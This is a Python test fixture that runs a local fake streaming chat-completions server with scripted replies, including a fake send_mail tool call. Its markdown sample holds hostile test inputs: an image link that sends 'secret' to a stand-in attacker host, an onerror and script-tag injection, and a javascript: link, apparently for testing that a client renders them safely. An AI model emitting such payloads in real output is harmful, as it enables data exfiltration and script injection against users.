"""A model provider that says what a test wants to hear (OpenAI's chat completions, streamed)."""

import json
import re
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

MARKDOWN = """# A heading

Some **bold** text, `code` and a [link](https://example.com/page?q=secret).

![picture](https://evil.example/steal.png?d=secret)

<img src=x onerror="document.title='run'"><script>document.title='run'</script>

[run](javascript:document.title='run')

| Name | Number |
|---|---|
| one | 1 |

```
if (a < b) { <b>no</b> }
```
"""


class Provider:
    """Answers by the person's last message: `slow N PACE` says N tokens, `markdown` and `mail` what their names say."""

    def __init__(self):
        self.requests = []
        self.cut_streams = 0
        self._lock = threading.Lock()
        provider = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_POST(self):
                provider._answer(self)

            def log_message(self, *_):
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._server.daemon_threads = True
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}/v1"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self):
        self._server.shutdown()
        self._server.server_close()

    def _answer(self, handler):
        body = json.loads(handler.rfile.read(int(handler.headers["Content-Length"])))
        with self._lock:
            self.requests.append(body)
        handler.send_response(200)
        handler.send_header("Content-Type", "text/event-stream")
        handler.send_header("Transfer-Encoding", "chunked")
        handler.end_headers()
        try:
            for delta, pause in self._deltas(body):
                self._say(handler, {"choices": [{"index": 0, "delta": delta}]})
                if pause:
                    time.sleep(pause)
            reason = "tool_calls" if self._calls(body) else "stop"
            self._say(handler, {"choices": [{"index": 0, "delta": {}, "finish_reason": reason}]})
            usage = {"prompt_tokens": 30, "completion_tokens": 12, "total_tokens": 42}
            self._say(handler, {"choices": [], "usage": usage})
            self._chunk(handler, b"data: [DONE]\n\n")
            handler.wfile.write(b"0\r\n\r\n")
        except (BrokenPipeError, ConnectionResetError):
            with self._lock:
                self.cut_streams += 1

    def _say(self, handler, event):
        event = {"id": "c1", "object": "chat.completion.chunk", "model": "scripted", **event}
        self._chunk(handler, b"data: " + json.dumps(event, ensure_ascii=False).encode() + b"\n\n")

    @staticmethod
    def _chunk(handler, data):
        handler.wfile.write(f"{len(data):x}\r\n".encode() + data + b"\r\n")
        handler.wfile.flush()

    @staticmethod
    def _question(body):
        texts = [message.get("content") or "" for message in body["messages"] if message["role"] == "user"]
        return texts[-1] if texts else ""

    def _calls(self, body):
        wants = "mail" in self._question(body) and bool(body.get("tools"))
        return wants and body["messages"][-1]["role"] != "tool"

    def _deltas(self, body):
        question = self._question(body)
        slow = re.search(r"slow (\d+) ([\d.]+)", question)
        if self._calls(body):
            arguments = json.dumps({"to": "kim@example.com", "subject": "Budget", "amount": 12345678901234567890})
            call = {"index": 0, "id": "call_1", "type": "function",
                    "function": {"name": "send_mail", "arguments": arguments}}
            yield {"reasoning_content": "The person wants a mail to be sent."}, 0
            yield {"tool_calls": [call]}, 0
        elif body["messages"][-1]["role"] == "tool":
            yield {"content": "Done: "}, 0
            yield {"content": body["messages"][-1]["content"]}, 0
        elif slow:
            for index in range(int(slow[1])):
                yield {"content": f"t{index} "}, float(slow[2])
        elif "markdown" in question:
            for line in MARKDOWN.splitlines(keepends=True):
                yield {"content": line}, 0.01
        elif "sources" in question:
            yield {"content": "The budget is reviewed on Monday [1]."}, 0
        else:
            yield {"content": "You said: "}, 0
            yield {"content": question[-80:]}, 0
